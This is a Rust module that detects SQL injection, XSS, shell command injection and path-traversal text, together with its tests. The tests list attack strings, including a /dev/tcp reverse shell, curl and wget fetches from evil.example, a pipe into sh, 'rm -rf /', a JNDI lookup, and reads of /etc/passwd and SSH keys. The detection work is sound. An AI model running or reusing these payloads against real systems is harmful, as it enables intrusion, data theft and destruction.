//! Text that looks like an attack on a database, a browser, a shell or a file system.
//!
//! Rules match what an attack needs to work (the quote that ends a string and the logic after it, the tag that runs
//! something, the separator before a command), not words that people write: O'Brien, "select all models from the list"
//! and `gpt-4` are nothing. Each rule takes time linear in the text.

use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use std::sync::LazyLock;

/// Longest part of a text that is looked at.
const MOST: usize = 4_096;
/// Rounds of percent-decoding: attacks are encoded twice to pass filters that decode once.
const ROUNDS: usize = 2;

/// What a text looks like.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Suspicion {
    /// SQL that breaks out of its place.
    Sql,
    /// A script for a browser.
    Script,
    /// A command for a shell.
    Command,
    /// A path out of its folder.
    Path,
}

impl Suspicion {
    const ALL: [Self; 4] = [Self::Sql, Self::Script, Self::Command, Self::Path];

    /// The word for it.
    #[must_use]
    pub const fn as_str(self) -> &'static str {
        match self {
            Self::Sql => "SQL",
            Self::Script => "script",
            Self::Command => "command",
            Self::Path => "path",
        }
    }

    const fn rules(self) -> &'static [&'static str] {
        match self {
            Self::Sql => SQL,
            Self::Script => SCRIPT,
            Self::Command => COMMAND,
            Self::Path => PATH,
        }
    }
}

const SQL: &[&str] = &[
    // ' or 1=1, ") or "a"="a
    r#"['"`]\s*\)*\s*(or|and|\|\||&&)\s*\(*\s*(not\s+)?['"]?[\w@]+['"]?\s*(=|<>|!=|<|>|\blike\b|\bin\s*\(|\bis\s+null)"#,
    // 1 or 1=1
    r"^\s*-?\d+\s+(or|and)\s+\d+\s*=\s*\d+",
    r#"\bunion\b\s+(all\s+|distinct\s+)?\(?\s*select\s+(\d|\*|null\b|['"@(]|\w+\s*(,|\(|\bfrom\b))"#,
    // ends a string or a number, then another statement
    r#"['"\d)]\s*;\s*((drop|alter|create)\s+(table|database|schema|view|index|function|user|role)|delete\s+from|insert\s+into|update\s+\w+\s+set|truncate\s+(table\s+)?\w+\s*(;|--|$)|grant\s+\w+\s+(on|to)|exec(ute)?\s+(\w+_\w+|'|\()|select\s+(\w+\s*(,|\(|\bfrom\b)|\*)|copy\s+\w+\s+(from|to)|attach\s+database|shutdown\s*(;|--|$))"#,
    r"\b(drop|truncate)\s+(table|database|schema)\s+(if\s+exists\s+)?[\w.]+\s*(;|--|cascade\b)",
    r"\bselect\b.{1,200}\bfrom\s+(information_schema|pg_catalog|pg_shadow|pg_user|pg_tables|sqlite_(master|schema)|sysobjects|mysql\.user)\b",
    r"\b(pg_sleep|load_file|xp_cmdshell|sp_executesql|pg_read_file|load_extension)\s*\(|\bxp_cmdshell\b",
    r"\bbenchmark\s*\(\s*\d+\s*,|\bwaitfor\s+delay\s+'|\binto\s+(out|dump)file\s+'",
    // admin'--
    r#"\w['"]\s*\)*\s*;?\s*(--|#|/\*)\s*$"#,
];

const SCRIPT: &[&str] = &[
    r"<\s*/?\s*(script|iframe|object|embed|applet|frameset)\b",
    r"<\s*[a-z][^<>]*[\s/'\x22]on[a-z]{3,20}\s*=",
    r"<\s*(svg|math|base|meta|link|form|style)\b[^<>]*(=|>)",
    r"\b(href|src|action|formaction|data)\s*=\s*['\x22]?\s*(javascript|vbscript|data)\s*:",
    r"\b(javascript|vbscript)\s*:\s*[\w.]+\s*[(=`]",
    r"\bdata\s*:\s*text/html\b",
    r"\b(document\s*\.\s*(cookie|location|write)|window\s*\.\s*location)\b\s*[=(.]|\beval\s*\(\s*(atob|unescape|string\.fromcharcode)\b",
];

const COMMAND: &[&str] = &[
    r"(;|\||&&|`|\$\(|\n)\s*(cat|head|tail|less|more|ls|cp|mv|tee)\s+(-\w+\s+)*(/|\.\./|~|\.env\b)",
    r"(;|\||&&|`|\$\(|\n)\s*(sudo\s+)?rm\s+-\w*[rf]",
    r"(;|\||&&|`|\$\(|\n)\s*(curl|wget)\s+(-\S+\s+)*['\x22]?(https?://|\$|\d{1,3}\.\d)",
    r"(;|\||&&|`|\$\(|\n)\s*(nc|ncat|netcat)\s+-|/dev/(tcp|udp)/",
    r"\|\s*(sudo\s+)?(ba|z|da)?sh\b\s*($|-|;|\|)|\b(ba|z|da)?sh\s+-[ci]\s+['\x22]?\w",
    r"(\$\(|`|;\s*|\|\|?\s*|&&\s*)(whoami|id|uname|env|printenv|ifconfig|hostname)\s*(-\w+\s*)?(\)|`|;|\||&|$)",
    r"\b(cmd(\.exe)?\s+/c|powershell(\.exe)?\s+-\w+)",
    r"/etc/(passwd|shadow|sudoers)\b|/proc/self/\w",
    // lookups and templates that some servers run
    r"\$\{\s*(jndi|env|sys)\s*:|\{\{\s*(\d+\s*\*\s*\d+|config|self|request|''|\x22\x22)\s*[.}|]|<%\s*=|\$\{\s*\d+\s*\*\s*\d+\s*\}",
];

const PATH: &[&str] = &[
    r"(\.\.[/\\]+){2,}",
    r"\.\.[/\\]+(etc|proc|var|root|home|usr|boot|windows|winnt|\.ssh|\.env|\.git)\b",
    r"(^|[\s=:])file:///|\b[a-z]:\\(windows|winnt|users)\\",
    r"%c0%ae|%c1%9c|%u002e",
    "\0",
];

static RULES: LazyLock<Vec<(Suspicion, RegexSet)>> = LazyLock::new(|| {
    let compiled =
        |rules| RegexSetBuilder::new(rules).case_insensitive(true).dot_matches_new_line(true).build();
    // A rule that does not compile fails the tests below; here it only leaves its kind out.
    Suspicion::ALL.into_iter().filter_map(|kind| Some((kind, compiled(kind.rules()).ok()?))).collect()
});

/// `/**/` stands for a space in SQL.
static COMMENT: LazyLock<Option<Regex>> =
    LazyLock::new(|| RegexBuilder::new(r"/\*[^*]{0,40}\*/").build().ok());

/// What a text looks like, as it is and decoded.
#[must_use]
pub fn suspicion(text: &str) -> Option<Suspicion> {
    let mut text = cut(text).to_owned();
    for _ in 0..=ROUNDS {
        if let Some(found) = look(&text) {
            return Some(found);
        }
        let decoded = decoded(&text);
        if decoded == text {
            return None;
        }
        text = decoded;
    }
    None
}

fn look(text: &str) -> Option<Suspicion> {
    let plain = COMMENT.as_ref().map(|comment| comment.replace_all(text, " "));
    let plain = plain.as_deref().unwrap_or(text);
    let matches = |rules: &RegexSet| rules.is_match(text) || (plain != text && rules.is_match(plain));
    RULES.iter().find(|(_, rules)| matches(rules)).map(|(kind, _)| *kind)
}

fn cut(text: &str) -> &str {
    &text[..text.floor_char_boundary(MOST)]
}

/// The text after one round of percent-decoding and of the entities that hide tags and quotes.
fn decoded(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((&byte, tail)) = rest.split_first() {
        let value = tail.get(..2).filter(|_| byte == b'%').and_then(|digits| hex::decode(digits).ok());
        match value.as_deref() {
            Some([value]) => {
                bytes.push(*value);
                rest = &tail[2..];
            }
            _ => {
                bytes.push(byte);
                rest = tail;
            }
        }
    }
    let text = String::from_utf8_lossy(&bytes);
    const ENTITIES: [(&str, &str); 8] = [
        ("&lt;", "<"),
        ("&#60;", "<"),
        ("&#x3c;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#34;", "\""),
        ("&#39;", "'"),
        ("&#x27;", "'"),
    ];
    ENTITIES.iter().fold(text.into_owned(), |text, (entity, letter)| text.replace(entity, letter))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn every_rule_compiles() {
        assert_eq!(RULES.len(), Suspicion::ALL.len());
        assert!(COMMENT.is_some());
    }

    #[track_caller]
    fn assert_suspected(kind: Suspicion, texts: &[&str]) {
        for text in texts {
            assert_eq!(suspicion(text), Some(kind), "{text}");
        }
    }

    #[test]
    fn attacks_are_suspected() {
        assert_suspected(
            Suspicion::Sql,
            &[
                "' OR 1=1 --",
                "x' or 'a'='a",
                "x\") or (\"a\"=\"a",
                "1 OR 1=1",
                "admin'--",
                "a' AND password LIKE '%",
                "0 UNION ALL SELECT password_hash FROM users",
                "0/**/union/**/select/**/1",
                "%27%20or%201%3D1",
                "%2527%2520or%25201%253D1",
                "Robert'); DROP TABLE students;--",
                "drop table users;",
                "select tablename from pg_catalog.pg_tables",
                "1; select pg_sleep(10)",
                "'; waitfor delay '0:0:5'",
                "x'; delete from events",
            ],
        );
        assert_suspected(
            Suspicion::Script,
            &[
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example>",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "javascript:alert(document.cookie)",
                "<iframe src='https://evil.example'>",
                "x\" onmouseover=\"alert(1)\" <b onclick=alert(1)>",
                "<a href=data:text/html;base64,PHNjcmlwdD4=>",
            ],
        );
        assert_suspected(
            Suspicion::Command,
            &[
                "x; cat /etc/hostname",
                "x | rm -rf /",
                "$(curl http://evil.example)",
                "`whoami`",
                "x && wget -q http://evil.example/x.sh",
                "a; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                "echo aGk= | base64 -d | sh",
                "cat /etc/passwd",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}}",
                "x || id",
                "cmd /c dir",
            ],
        );
        assert_suspected(
            Suspicion::Path,
            &[
                "../../secret",
                "..\\..\\windows\\win.ini",
                "%2e%2e%2f%2e%2e%2fetc",
                "..%252f..%252fx",
                "models/../etc/hosts",
                "file:///root/.ssh/id_rsa",
                "..%c0%af..%c0%ae/",
            ],
        );
    }

    #[test]
    fn what_people_write_is_not() {
        let harmless = [
            "O'Brien",
            "Conan O'Brien and D'Angelo",
            "Anna 'Ace' or Bob",
            "the team's models and the users' keys",
            "Rock 'n' Roll",
            "Select all models from the list of approved ones",
            "Drop table tennis for now",
            "We update prices; select customers only",
            "Credit Union Select",
            "European Union select committee",
            "union; select committee",
            "C# -- and F#",
            "see ticket #12",
            "Tom & Jerry; cat videos",
            "R&D | Sales",
            "a && b || c",
            "price < 10 and size > 5",
            "use `gpt-4` or `llama-3.1:8b`",
            "a <b>bold</b> claim",
            "JavaScript: the good parts",
            "on error = retry",
            "deletes from 2024; inserts later",
            "org/model:tag@rev",
            "see ../docs for more",
            "50% of 30%",
            "100%25 sure",
            "{{ model }} template",
            "$(MODEL) in the Makefile",
            "1 or 2 of 3",
            "what if x = 1 or y = 2?",
            "grant for Q3; update in May",
            "한국어 모델",
            "модель 'Иван' or other",
            "I <3 this; id please",
            "shell scripts, bash and sh",
            "data: text and images",
            "rm -rf is dangerous",
            "ends with a quote'",
            "\"quoted\" -- with a dash",
        ];
        for text in harmless {
            assert_eq!(suspicion(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn nothing_makes_it_panic(text in "\\PC{0,200}", attack in "[%0-9a-f<>'/.;&|$`(){} \\w]{0,200}") {
            for text in [text, attack, "x".repeat(MOST - 1) + "é"] {
                prop_assert_eq!(suspicion(&text), suspicion(&text));
            }
        }

        #[test]
        fn names_of_people_are_nothing(first in "[A-ZÀ-Ý][a-zà-ÿ]{1,12}", last in "(O'|D'|Mc|van |de )?[A-Z][a-z]{1,12}(-[A-Z][a-z]{1,8})?") {
            prop_assert_eq!(suspicion(&format!("{first} {last}")), None);
        }
    }
}
